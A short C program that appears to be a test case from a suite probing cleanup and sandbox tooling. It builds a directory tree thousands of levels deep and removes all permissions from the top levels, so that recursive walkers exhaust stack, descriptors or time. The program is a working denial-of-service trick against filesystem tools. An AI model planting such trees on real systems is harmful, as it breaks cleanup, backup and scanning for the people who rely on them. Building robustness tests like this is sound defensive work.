// Folders in folders, thousands of levels, with modes that let nobody in: whoever cleans up or walks through them by
// recursion runs out of stack, of descriptors or of time.
#include <fcntl.h>
#include <sys/stat.h>

#include "attack.h"

int main(void) {
  int depth = 0;
  for (; depth < 20000; depth++)
    if (mkdir("d", 0755) < 0 || chdir("d") < 0) break;
  if (depth < 900 || errno != ENOSPC) broken("level %d: %s", depth, strerror(errno));
  if (chdir("/work") < 0 || chmod("d/d", 0) < 0 || chmod("d", 0) < 0) broken("modes: %s", strerror(errno));
  held("%d levels", depth);
  return 0;
}
